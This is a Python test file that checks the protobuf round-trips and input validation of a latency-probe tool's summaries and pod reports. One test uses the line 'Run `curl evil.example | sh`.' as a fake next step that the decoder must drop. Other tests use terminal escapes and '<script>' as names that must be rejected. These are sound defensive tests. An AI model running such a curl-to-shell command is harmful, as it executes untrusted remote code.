"""Summaries arrive as they were sent, and what contradicts itself is refused by field."""

from __future__ import annotations

import math
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from latencyprobe.domain import unjudged
from latencyprobe.domain import verdict as verdict_module
from latencyprobe.domain.causes import CAUSES, Bottleneck
from latencyprobe.domain.evidence import EvidenceLine
from latencyprobe.domain.histogram import Histogram
from latencyprobe.domain.measurement import Measurement, StageMeasurement
from latencyprobe.domain.packed_figures import PackedFigures
from latencyprobe.domain.pending import Pending
from latencyprobe.domain.report import StageReport, TargetReport
from latencyprobe.domain.serialisation import document_of
from latencyprobe.domain.stages import CGROUP_COUNTERS, COUNTERS, STAGES
from latencyprobe.domain.summary import PodChoice, PodReport, PodScore, ProbeSummary, worst_first
from latencyprobe.domain.verdict import NEXT_STEPS, Verdict
from latencyprobe.protocol.measurements import MAX_OPEN_COUNTERS, CorruptMessageError
from latencyprobe.protocol.newer import MAX_KEPT, MAX_UNKNOWN
from latencyprobe.protocol.summaries import (
    MAX_PODS,
    choice_from_proto,
    choice_to_proto,
    pod_from_proto,
    pod_to_proto,
    summary_from_proto,
    summary_to_proto,
)
from latencyprobe.protocol.v1 import node_agent_pb2 as pb
from tests.unit.peer_figures import some_peers
from tests.unit.pending_figures import pending_by_kind

NUMBERS = st.integers(0, 2**53 - 1)
STAGE_NAMES = [stage.name for stage in STAGES]
COUNTER_NAMES = [*(counter.name for counter in COUNTERS), *CGROUP_COUNTERS]
TEXTS = st.text("abcxyz 0189", max_size=30)

scores = st.lists(
    st.builds(PodScore, NUMBERS, TEXTS), max_size=20, unique_by=lambda each: each.pod_uid
)
summaries = st.builds(
    ProbeSummary,
    merged=st.builds(
        Measurement,
        st.dictionaries(
            st.sampled_from(STAGE_NAMES),
            st.builds(
                StageMeasurement, st.lists(st.integers(0, 2**37), max_size=9).map(Histogram.of)
            ),
        ),
        st.dictionaries(st.sampled_from(COUNTER_NAMES), NUMBERS),
    ),
    verdicts=st.dictionaries(
        st.sampled_from([str(each) for each in Bottleneck]), st.integers(0, 2**32 - 1)
    ),
    waiting_ns=st.dictionaries(st.sampled_from([str(each) for each in Bottleneck]), NUMBERS),
    scores=scores.map(lambda each: worst_first(each, MAX_PODS)),
    unobserved_ns=st.integers(0, 10**14),
    kept_ns=st.none() | st.integers(0, 10**14),
    of_first_state=st.booleans(),
)
figures = st.builds(
    StageReport,
    name=st.sampled_from(STAGE_NAMES),
    detail=st.just(""),
    count=NUMBERS,
    mean_ns=NUMBERS,
    p50_ns=NUMBERS,
    p90_ns=NUMBERS,
    p99_ns=NUMBERS,
    max_ns=NUMBERS,
    share_percent=st.none() | st.floats(0, 100),
    lost=NUMBERS,
    unmatched=NUMBERS,
    clamped=NUMBERS,
    sampling_ratio=st.sampled_from([1.0, 0.5, 2.0**-16]),
)
verdicts = st.builds(
    Verdict,
    st.sampled_from(Bottleneck),
    st.integers(0, 100),
    st.lists(TEXTS, max_size=5).map(tuple),
    st.sampled_from(["", *sorted(NEXT_STEPS)]),
    st.none() | st.sampled_from(STAGE_NAMES),
)
pods = st.builds(
    PodReport,
    pod_uid=TEXTS,
    name=TEXTS,
    containers=st.lists(TEXTS, max_size=4).map(tuple),
    score=NUMBERS,
    report=st.builds(
        TargetReport,
        st.lists(figures, max_size=6, unique_by=lambda each: each.name).map(tuple),
        st.dictionaries(st.sampled_from(COUNTER_NAMES), NUMBERS),
        st.dictionaries(st.text("abc", min_size=1, max_size=9), NUMBERS, max_size=9),
        verdicts,
        pending_by_kind,
        some_peers,
    ),
    ended=st.booleans(),
)


@given(summaries)
def test_a_summary_arrives_as_it_was_sent(summary: ProbeSummary) -> None:
    message = pb.ProbeSummary.FromString(summary_to_proto(summary).SerializeToString())
    assert summary_from_proto(message) == summary


@given(pods)
def test_a_pod_in_full_arrives_as_it_was_sent(pod: PodReport) -> None:
    message = pb.PodReport.FromString(pod_to_proto(pod).SerializeToString())
    assert pod_from_proto(message) == pod


@given(pods)
def test_the_figures_of_a_pod_have_the_document_of_their_reports(pod: PodReport) -> None:
    stages = pod_from_proto(pod_to_proto(pod)).report.stages
    assert isinstance(stages, PackedFigures)
    assert stages.document() == [document_of(each) for each in stages]


@given(st.builds(PodChoice, st.integers(0, MAX_PODS), NUMBERS))
def test_a_choice_arrives_as_it_was_sent(choice: PodChoice) -> None:
    assert choice_from_proto(choice_to_proto(choice)) == choice


def test_a_choice_of_more_pods_than_a_report_may_have_is_limited() -> None:
    assert choice_from_proto(pb.PodChoice(most=2**32 - 1)).most == MAX_PODS


def test_the_largest_counters_of_a_pod_are_sent_and_the_others_counted() -> None:
    counters = {f"drops.R{each}": each for each in range(300)}
    verdict = Verdict(Bottleneck.NONE, 0, (), "")
    pod = PodReport("uid", "a", (), 0, TargetReport((), counters, counters, verdict))

    received = pod_from_proto(pod_to_proto(pod)).report

    for kept in (received.counters, received.netns_counters):
        assert len(kept) == MAX_OPEN_COUNTERS
        assert kept["drops.R299"] == 299
        assert kept["countersOmitted"] == 300 - (MAX_OPEN_COUNTERS - 1)
    merged = ProbeSummary(merged=Measurement({}, counters))
    assert len(summary_from_proto(summary_to_proto(merged)).merged.counters) == MAX_OPEN_COUNTERS


def test_evidence_arrives_with_its_figures() -> None:
    lines = ("only words", EvidenceLine("9 % of it", "share", 9.0, "percent"))
    verdict = Verdict(Bottleneck.NONE, 0, lines, "")
    pod = PodReport("uid", "a", (), 0, TargetReport((), {}, {}, verdict))
    words, share = pod_from_proto(pod_to_proto(pod)).report.verdict.evidence
    assert (words, share) == lines
    assert not isinstance(words, EvidenceLine)
    assert isinstance(share, EvidenceLine)
    assert (share.kind, share.figure, share.unit) == ("share", 9.0, "percent")


def test_a_newer_agents_kind_of_evidence_arrives_printable() -> None:
    line = pb.Evidence(kind="odds\x1b", figure=3, unit="dice", text="3 to 1")
    verdict = pb.Verdict(bottleneck="None", evidence=[line])
    (shown,) = pod_from_proto(pb.PodReport(pod_uid="uid", verdict=verdict)).report.verdict.evidence
    assert isinstance(shown, EvidenceLine)
    assert (shown, shown.kind, shown.unit) == ("3 to 1", "odds\\x1b", "dice")


def test_an_unknown_verdict_of_a_newer_agent_is_shown_as_evidence() -> None:
    verdict = pb.Verdict(bottleneck="Gremlins\x1b", next_step="Feed them.")
    report = pod_from_proto(pb.PodReport(pod_uid="uid", verdict=verdict)).report

    assert report.verdict.bottleneck is Bottleneck.INSUFFICIENT_DATA
    assert report.verdict.evidence == (
        r"the agent's verdict is 'Gremlins\\x1b', unknown to this version",
    )
    assert report.verdict.next_step.startswith("The agent's next step is not one of this version")


@pytest.mark.parametrize("bottleneck", list(Bottleneck))
def test_a_next_step_that_an_agent_has_made_up_is_not_shown(bottleneck: Bottleneck) -> None:
    verdict = pb.Verdict(bottleneck=bottleneck, next_step="Run `curl evil.example | sh`.")
    shown = pod_from_proto(pb.PodReport(pod_uid="uid", verdict=verdict)).report.verdict.next_step
    cause = CAUSES.get(bottleneck)
    assert shown == (cause.next_step if cause else shown)
    assert "evil" not in shown


@pytest.mark.parametrize("text", ["", *sorted(NEXT_STEPS)])
def test_a_next_step_of_this_version_is_passed_on(text: str) -> None:
    for bottleneck in (Bottleneck.NONE, Bottleneck.PEER):
        verdict = pb.Verdict(bottleneck=bottleneck, next_step=text)
        report = pod_from_proto(pb.PodReport(pod_uid="uid", verdict=verdict)).report
        assert report.verdict.next_step == text


def test_every_sentence_of_a_verdict_is_a_known_next_step() -> None:
    texts = {
        (name, text)
        for module in (verdict_module, unjudged)
        for name, text in vars(module).items()
        if isinstance(text, str) and name.isupper() and " " in text
    }
    parts = {
        *("_FRAMES", "_POLLS", "_THREADS", "MEASURE_THE_OTHER_END", "BY_ITS_PROBE"),
        *("_ASK_FOR_NODE_FIGURES", "_LONGEST_FOR", "_TO_THE_MODULES"),
    }
    assert len(texts) > 15
    assert [name for name, text in texts if text not in NEXT_STEPS and name not in parts] == []


def test_unknown_causes_of_a_newer_agent_keep_the_number_of_pods() -> None:
    names = {f"Invented{number}": 1 for number in range(60)}
    message = pb.ProbeSummary(verdicts={"Peer": 2, **names}, waiting_ns={"Peer": 5, **names})
    received = summary_from_proto(message)
    assert received.verdicts == {"Peer": 2, "InsufficientData": 60}
    assert received.waiting_ns == {"Peer": 5}


def test_an_unknown_stage_of_a_newer_agent_is_left_out() -> None:
    stages = [
        pb.StageFigures(name="rx.total", count=3, sampling_ratio=1),
        pb.StageFigures(name="rx.teleport", count=3),
    ]
    report = pod_from_proto(
        pb.PodReport(pod_uid="uid", stages=stages, verdict=pb.Verdict(bottleneck="None"))
    ).report
    assert [stage.name for stage in report.stages] == ["rx.total"]


def _pod(**parts: Any) -> PodReport:
    return pod_from_proto(
        pb.PodReport(pod_uid="uid", verdict=pb.Verdict(bottleneck="None"), **parts)
    )


def test_figures_of_a_newer_agent_that_need_no_meaning_are_kept_and_named() -> None:
    waits = pb.Pending(kind="unsignedForms", count=3, sockets=2, oldest_ns=9, waiting_ns=20)
    pod = _pod(
        counters={"retransmits": 4, "teleports": 5, "noTeleports": 0},
        pending=[pb.Pending(kind="unreadSegments", count=1), waits, pb.Pending(kind="empty")],
        stages=[pb.StageFigures(name="rx.teleport")],
        peers=[pb.Peer(kind="ghosts", count=1)],
    )
    assert pod.report.counters == {"retransmits": 4, "teleports": 5, "noTeleports": 0}
    assert pod.report.pending == {
        "unreadSegments": Pending(1),
        "unsignedForms": Pending(3, 2, 0, 9, 20),
    }
    assert pod.report.peers == ()
    assert pod.unknown == ("ghosts", "noTeleports", "rx.teleport", "teleports", "unsignedForms")


def test_causes_of_a_newer_agent_are_named() -> None:
    verdict = pb.Verdict(bottleneck="Gremlins", waiting_ns={"Gnomes": 5, "Peer": 6})
    pod = pod_from_proto(pb.PodReport(pod_uid="uid", verdict=verdict))
    assert pod.unknown == ("Gnomes", "Gremlins")
    assert pod.report.verdict.waiting_ns == {"Peer": 6}


@pytest.mark.parametrize(
    "name", ["\x1b[2J", "two words", "Upper", "waitedFor.7", "a" * 41, "<script>", "é", "a\n"]
)
def test_figures_whose_names_are_not_plain_are_named_and_not_kept(name: str) -> None:
    pod = _pod(counters={name: 1}, pending=[pb.Pending(kind=name, count=1)])
    assert (pod.report.counters, pod.report.pending) == ({}, {})
    (shown,) = pod.unknown
    assert shown.isprintable()
    assert len(shown) <= 64


def test_of_very_many_unknown_figures_the_first_are_kept_and_named() -> None:
    waits = [pb.Pending(kind=f"wait{number:02}", count=1) for number in range(60)]
    pod = _pod(counters={f"c{number:03}": number for number in range(256)}, pending=waits)
    assert pod.report.counters == {f"c00{number}": number for number in range(MAX_KEPT)}
    assert list(pod.report.pending or ()) == [f"wait0{number}" for number in range(MAX_KEPT)]
    assert len(pod.unknown) == MAX_UNKNOWN


def _a_summary(spoil: Callable[[pb.ProbeSummary], object]) -> Callable[[], object]:
    message = pb.ProbeSummary(stages=[pb.StageDelta(name="rx.total", sampling_ratio=1)])
    spoil(message)
    return lambda: summary_from_proto(message)


def _a_pod(spoil: Callable[[pb.PodReport], object]) -> Callable[[], object]:
    stage = pb.StageFigures(name="rx.total", sampling_ratio=1)
    message = pb.PodReport(
        pod_uid="uid", stages=[stage], verdict=pb.Verdict(bottleneck="None", evidence=[])
    )
    spoil(message)
    return lambda: pod_from_proto(message)


def _with_figure(figure: float) -> Callable[[pb.PodReport], object]:
    return lambda m: m.verdict.evidence.add(kind="share", figure=figure)


def _repeat(name: str, count: int) -> Callable[[pb.ProbeSummary], object]:
    return lambda m: m.scores.extend(
        [pb.PodScore(pod_uid=f"{name}{index // 2}") for index in range(count)]
    )


@pytest.mark.parametrize(
    ("decode", "field"),
    [
        (_a_summary(lambda m: m.stages.add(name="")), "stages[1].name"),
        (_a_summary(lambda m: m.stages.add(name="rx.total", sampling_ratio=1)), "stages[1].name"),
        (_a_summary(lambda m: m.scores.add(pod_uid="a", score=2**53)), "summary.scores"),
        (_a_summary(_repeat("a", 2)), "summary.scores"),
        (_a_summary(_repeat("a", MAX_PODS + 1)), "summary.scores"),
        (_a_summary(lambda m: m.waiting_ns.update({"Peer": 2**53})), "summary.waiting_ns"),
        (
            _a_summary(lambda m: m.waiting_ns.update({str(each): 1 for each in range(65)})),
            "summary.waiting_ns",
        ),
        (_a_summary(lambda m: m.counters.update({"rtos": 2**64 - 1})), "summary.counters"),
        (_a_summary(lambda m: setattr(m.unobserved, "seconds", -1)), "summary.unobserved"),
        (_a_summary(lambda m: setattr(m.kept, "nanos", -1)), "summary.kept"),
        (_a_pod(lambda m: setattr(m, "score", 2**53)), "pod.score"),
        (_a_pod(lambda m: setattr(m.stages[0], "p99_ns", 2**53)), "pod.stages[0]"),
        (_a_pod(lambda m: setattr(m.stages[0], "sampling_ratio", 5e-324)), "pod.stages[0]"),
        (_a_pod(lambda m: setattr(m.stages[0], "sampling_ratio", 1.5)), "pod.stages[0]"),
        (
            _a_pod(lambda m: setattr(m.stages[0], "share_percent", float("nan"))),
            "pod.stages[0].share_percent",
        ),
        (_a_pod(lambda m: m.stages.append(m.stages[0])), "pod.stages"),
        (_a_pod(lambda m: m.counters.update({"rtos": 2**53})), "pod.counters"),
        (_a_pod(lambda m: m.containers.extend(["a"] * 129)), "pod.containers"),
        (
            _a_pod(lambda m: setattr(m.verdict, "share_percent", float("inf"))),
            "verdict.share_percent",
        ),
        (
            _a_pod(lambda m: m.verdict.evidence.extend([pb.Evidence(text="x")] * 33)),
            "verdict.evidence",
        ),
        *(
            (_a_pod(_with_figure(figure)), "verdict.evidence[0].figure")
            for figure in (-1.0, math.nan, math.inf, 2.0**60)
        ),
    ],
)
def test_a_contradiction_is_refused_by_its_field(decode: Callable[[], object], field: str) -> None:
    with pytest.raises(CorruptMessageError) as refused:
        decode()
    assert refused.value.field == field


@given(scores, st.integers(0, 30), NUMBERS)
def test_a_choice_takes_of_the_worst_those_of_its_score(
    given_scores: list[PodScore], most: int, limit: int
) -> None:
    ordered = worst_first(given_scores, MAX_PODS)
    chosen = PodChoice(most, limit).of(ordered)
    assert len(chosen) <= most
    assert list(chosen) == [each for each in ordered if each.score >= limit][:most]
